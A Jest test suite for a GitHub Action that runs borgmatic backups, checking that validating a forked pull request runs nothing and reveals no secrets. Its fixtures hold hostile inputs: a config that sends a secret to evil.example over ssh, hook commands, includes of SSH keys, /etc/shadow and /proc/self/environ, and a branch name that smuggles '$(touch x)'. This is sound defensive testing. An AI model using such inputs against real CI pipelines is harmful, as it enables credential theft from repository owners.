import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { forkWarning } from '../../src/entry-points/fork-warning.js';
import { inputVariables, type ProcessResult, startEntry } from '../support/entry-point.js';

/** A string in files and variables that no pull request may read. */
const canary = 'CANARY-7f3a91c2';

let folder = '';
const path = (name: string) => join(folder, name);

function put(name: string, text: string, mode = 0o644): string {
  mkdirSync(dirname(path(name)), { recursive: true });
  writeFileSync(path(name), text, { mode });
  return path(name);
}

/** Sets up a checkout of a pull request, and programs that leave a trace if they run. */
beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'borgflow-request-')));
  put('home/.ssh/id_ed25519', canary);
  put('outside/secret.yaml', `keep_dayly: ${canary}\nencryption_passphrase: ${canary}\n`);
  put('home/.config/borgmatic/config.yaml', `keep_dayly: ${canary}\n`);
  for (const name of ['borg', 'sh', 'bash', 'ssh', 'logger', 'sudo', 'apt-get', 'git', 'setsid'])
    put(`programs/${name}`, `#!/bin/false\n`, 0o755);
  const traced = `#!${execFileSync('which', ['bash'], { encoding: 'utf8' }).trim()}\necho "$0 $*" >> ${path('trace')}\n`;
  for (const name of readdirSync(path('programs'))) put(`programs/${name}`, traced, 0o755);
  for (const name of ['borg', 'hook.sh']) put(`workspace/${name}`, traced, 0o755);
  put('workspace/.npmrc', 'script-shell=./hook.sh\n');
  for (const name of ['yaml', 'tinyglobby', '@actions/core'])
    put(
      `workspace/node_modules/${name}/index.js`,
      `require('fs').appendFileSync(${JSON.stringify(path('trace'))}, 'loaded\\n')\n`,
    );
  mkdirSync(path('temp/_runner_file_commands'), { recursive: true });
  for (const name of ['env', 'output', 'state', 'summary']) put(`temp/_runner_file_commands/${name}`, '');
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const commandFile = (name: string) => path(`temp/_runner_file_commands/${name}`);

function environment(event: object, given: Readonly<Record<string, string>>): Readonly<Record<string, string>> {
  return {
    PATH: path('programs'),
    HOME: path('home'),
    RUNNER_TEMP: path('temp'),
    GITHUB_WORKSPACE: path('workspace'),
    GITHUB_EVENT_NAME: 'pull_request',
    GITHUB_EVENT_PATH: put('temp/event.json', JSON.stringify(event)),
    GITHUB_HEAD_REF: '`$(touch x)`::error::evil',
    GITHUB_ENV: commandFile('env'),
    GITHUB_OUTPUT: commandFile('output'),
    GITHUB_STATE: commandFile('state'),
    GITHUB_STEP_SUMMARY: commandFile('summary'),
    A_SECRET: canary,
    BORG_PASSPHRASE: canary,
    ...inputVariables(given),
  };
}

const fork = {
  repository: { full_name: 'owner/backup' },
  pull_request: { title: '::error::evil', head: { repo: { full_name: 'mallory/backup', fork: true } } },
};

/** Runs a step for this pull request. */
async function step(given: Readonly<Record<string, string>>, before: readonly string[] = []): Promise<ProcessResult> {
  const start = { folder: path('workspace'), environment: environment(fork, given), before };
  return await startEntry('action', start).ended;
}

const traced = () => (existsSync(path('trace')) ? readFileSync(path('trace'), 'utf8') : '');

/** Asserts that nothing ran, that only the runner's files were written, and that no secret was revealed. */
function expectHarmless({ log }: ProcessResult): void {
  expect(traced()).toBe('');
  expect(log).not.toContain(canary);
  expect(log).not.toContain('Internal error');
  expect(readFileSync(commandFile('env'), 'utf8')).toBe('');
  const written = ['output', 'state', 'summary'].map((name) => readFileSync(commandFile(name), 'utf8')).join('');
  expect(written).not.toContain(canary);
  expect(readdirSync(path('temp')).toSorted()).toEqual(['_runner_file_commands', 'event.json']);
}

/** A configuration with everything that a run would start, read, or write. */
const malicious = (more = '') => `repositories:
  - path: "ssh://evil.example/./\${A_SECRET}"
  - path: "\${A_SECRET}"
source_directories: [/, "/*/*/*", "/**"]
local_path: ./borg
remote_path: ./borg
ssh_command: ./hook.sh
encryption_passcommand: ./hook.sh
before_backup: ["./hook.sh \${A_SECRET}"]
before_everything: ["./hook.sh"]
on_error: ["./hook.sh"]
after_everything: ["./hook.sh"]
commands:
  - {before: everything, run: ["./hook.sh"]}
patterns_from: [/etc/shadow]
exclude_from: [/dev/zero]
log_file: ${commandFile('env')}
working_directory: ${path('outside')}
borg_base_directory: ${path('outside/borg')}
healthchecks: {ping_url: "http://127.0.0.1:9/\${A_SECRET}"}
${more}`;

describe('validating a pull request', () => {
  const validate = { config: 'server.yaml', actions: 'config validate' };

  test('runs nothing, writes nothing, and reveals nothing, whatever the configuration contains', async () => {
    put('workspace/server.yaml', malicious());
    expectHarmless(await step(validate));
    expect(readdirSync(path('outside'))).toEqual(['secret.yaml']);
  });

  test('reveals nothing in error messages', async () => {
    const faults = [
      'umask: "${A_SECRET}"',
      'keep_daily: "${A_SECRET}"',
      'constants: {c: "${A_SECRET}"}',
      'x${A_SECRET}: 1',
    ];
    put('workspace/server.yaml', malicious(`${faults.join('\n')}\nkeep_weekly: "{c}"\n`));
    const done = await step(validate);
    expect(done.status).toBe(1);
    expectHarmless(done);
  });

  test.each([
    ['a file next to the workspace', '../outside/secret.yaml'],
    ['an SSH key', '~/.ssh/id_ed25519'],
    ['the environment of the process', '/proc/self/environ'],
    ['the event file', '../temp/event.json'],
  ])('includes nothing from outside the workspace: %s', async (_, name) => {
    put('workspace/server.yaml', `repositories: [/r]\n<<: !include ${name}\n`);
    const done = await step(validate);
    expect(done.log).toContain('is outside the workspace');
    expectHarmless(done);
  });

  test.each([
    ['the file itself', 'server.yaml', '../outside/secret.yaml', 'server.yaml'],
    ['a file in a folder', 'files/one.yaml', '../../outside/secret.yaml', 'files'],
    ['a folder', 'files', '../outside', 'files'],
    ['a folder on the path', 'linked', '../outside', 'linked/secret.yaml'],
    ['the default configuration', '.github/borgflow.yaml', '../../outside/secret.yaml', ''],
    ['the folder of the default configuration', '.github', '../outside', ''],
  ])('follows no link out of the workspace: %s', async (_, link, target, config) => {
    mkdirSync(dirname(path(`workspace/${link}`)), { recursive: true });
    symlinkSync(target, path(`workspace/${link}`));
    symlinkSync('secret.yaml', path('outside/borgflow.yaml'));
    const done = await step({ ...validate, config });
    expect(done.status).toBe(1);
    expectHarmless(done);
  });

  test('never uses the machine’s own configuration if the workspace has none', async () => {
    const done = await step({ ...validate, config: '' });
    expect(done.status).toBe(1);
    expect(done.log).toContain('Looked for .github/borgflow.yaml and .github/borgmatic.yaml.');
    expectHarmless(done);
  });

  test('works in a workspace that is a link itself', async () => {
    symlinkSync('workspace', path('linked'));
    put('workspace/server.yaml', 'repositories: [/r]\n<<: !include part.yaml\n');
    put('workspace/part.yaml', 'keep_daily: 7\n');
    const variables = { ...environment(fork, validate), GITHUB_WORKSPACE: path('linked') };
    const done = await startEntry('action', { folder: path('linked'), environment: variables }).ended;
    expect(done.log).toContain('1 configuration file is valid.');
    expectHarmless(done);
  });

  test('starts no process, opens no connection, and opens no file except its configuration', async () => {
    const strace = ['/usr/bin/strace', '/bin/strace'].find(existsSync);
    if (strace === undefined) return; // without a tracer, the programs above leave their trace
    put('workspace/server.yaml', malicious());
    const calls = ['-f', '-qq', '-e', 'trace=execve,connect,openat,open,mkdir,unlink,rename', '-o', path('calls')];
    await step(validate, [strace, ...calls]);
    const lines = readFileSync(path('calls'), 'utf8').split('\n');
    expect(lines.filter((line) => line.includes('execve('))).toHaveLength(1);
    expect(lines.filter((line) => line.includes('connect('))).toEqual([]);
    const opened = lines.flatMap((line) => /open(?:at)?\((?:AT_FDCWD, )?"([^"]+)"/.exec(line)?.[1] ?? []);
    const own = opened.filter((file) => file.startsWith(folder));
    expect(
      [...new Set(own)].filter((file) => !/server\.yaml$|_runner_file_commands\/|package\.json$/.test(file)),
    ).toEqual([]);
    expect(opened.filter((file) => /shadow|\/dev\/zero/.test(file))).toEqual([]);
  });
});

describe('running a pull request from a fork', () => {
  const advice =
    'To check such files safely, use `actions: config validate`, which does not run anything that they name.';
  const sound = () => ({ configuration: `repositories: [${path('repository')}]\n`, permissions: 'off' });

  test('shows a warning annotation in a dry run', async () => {
    const { log } = await step({ ...sound(), 'dry-run': 'true' });
    expect(log).toMatch(
      /^::warning[^:]*::This pull request comes from a fork \(mallory\/backup\)\. A dry run of its configuration is not safe/m,
    );
    expect(log).toContain(advice);
  });

  test('shows a warning annotation in a real run', async () => {
    const { log } = await step(sound());
    expect(log).toMatch(
      /^::warning[^:]*::This pull request comes from a fork \(mallory\/backup\)\. This step runs the hooks/m,
    );
    expect(log).toContain(advice);
  });

  test('shows no warning if it is only validated', async () => {
    put('workspace/server.yaml', 'repositories: [/r]\n');
    const { log } = await step({ config: 'server.yaml', actions: 'config validate' });
    expect(log).not.toContain('fork');
  });
});

describe('an event from a fork', () => {
  const warningFor = (event: string, payload: unknown) =>
    forkWarning(
      {
        GITHUB_EVENT_NAME: event,
        GITHUB_EVENT_PATH: put('event.json', typeof payload === 'string' ? payload : JSON.stringify(payload)),
      },
      true,
    );
  const head = (repo: unknown) => ({ repository: { full_name: 'owner/backup' }, pull_request: { head: { repo } } });
  const workflowRun = (head_repository: unknown, event = 'pull_request') => ({
    repository: { full_name: 'owner/backup' },
    workflow_run: { event, head_repository },
  });
  const events = ['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'];

  test.each(events)('is recognized by the name of its repository: %s', (event) => {
    expect(warningFor(event, head({ full_name: 'mallory/backup' }))).toContain('from a fork (mallory/backup).');
    expect(warningFor(event, head({ full_name: 'owner/backup', fork: true }))).toBeUndefined();
  });

  test.each(events)('is assumed if the repository is gone or can’t be read: %s', (event) => {
    expect(warningFor(event, head(null))).toContain('comes from a fork.');
    expect(warningFor(event, {})).toContain('comes from a fork.');
    expect(warningFor(event, 'no JSON')).toContain('may come from a fork');
    expect(forkWarning({ GITHUB_EVENT_NAME: event }, true)).toContain('may come from a fork');
    expect(forkWarning({ GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: '/dev/zero' }, true)).toContain(
      'may come from a fork',
    );
  });

  test('never shows an invalid repository name', () => {
    const warning = warningFor('pull_request', head({ full_name: 'a/b\n::error::evil' }));
    expect(warning).toContain('comes from a fork.');
    expect(warning).not.toContain('evil');
  });

  test('is recognized in workflow_run, and in comments on a pull request', () => {
    expect(warningFor('workflow_run', workflowRun({ full_name: 'mallory/backup' }))).toContain(
      'from a fork (mallory/backup).',
    );
    expect(warningFor('workflow_run', workflowRun(null))).toContain('from a fork.');
    expect(warningFor('workflow_run', workflowRun({ full_name: 'owner/backup' }))).toBeUndefined();
    expect(warningFor('issue_comment', { issue: { pull_request: {} } })).toContain('may come from a fork');
    expect(warningFor('issue_comment', { issue: {} })).toBeUndefined();
  });

  test.each(['push', 'schedule', 'workflow_dispatch', ''])('is not checked for other events: %j', (event) => {
    expect(warningFor(event, head({ full_name: 'mallory/backup' }))).toBeUndefined();
  });
});
